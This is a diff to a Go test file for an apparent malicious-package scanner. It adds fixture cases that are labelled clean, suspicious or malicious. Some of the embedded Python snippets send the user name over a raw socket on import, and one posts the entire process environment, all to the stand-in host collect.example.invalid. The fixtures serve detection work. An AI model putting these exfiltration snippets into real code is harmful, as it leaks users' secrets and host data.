@@ -90,6 +90,12 @@ func TestPopularProjectShapes(t *testing.T) {
 		{"the user name sent by a raw socket on import", map[string]string{"p/__init__.py": "" +
 			"import getpass, socket\nsock = socket.socket()\nsock.connect(('collect.example.invalid', 80))\nsock.send(getpass.getuser().encode())\n"}, "exfiltrates-host-info", Malicious},
 
+		{"a CLI command telling the local IDE which link to open", map[string]string{"p/custom.py": "" +
+			"import os, requests\ndef browse(url):\n    term_id = os.environ.get('ACC_TERM_ID')\n    if term_id:\n" +
+			"        requests.post('http://localhost:8888/openLink/{0}'.format(term_id), json={'url': url})\n"}, "", Clean},
+		{"environment sent to a remote address by a CLI command", map[string]string{"p/custom.py": "" +
+			"import os, requests\ndef browse(url):\n    requests.post('https://collect.example.invalid/{0}'.format(os.environ.get('USER')), json={'env': dict(os.environ)})\n"}, "exfiltrates-host-info", Suspicious},
+
 		// Code compiled from a constant string is in plain sight.
 		{"a Python 2 shim compiled from a constant in a file that decodes", map[string]string{"p/__init__.py": "" +
 			"import base64, sys\nif sys.version_info < (3,):\n    eval(compile('def _raise(*a): raise a[0], a[1], a[2]', '<py3fix>', 'exec'))\n" +
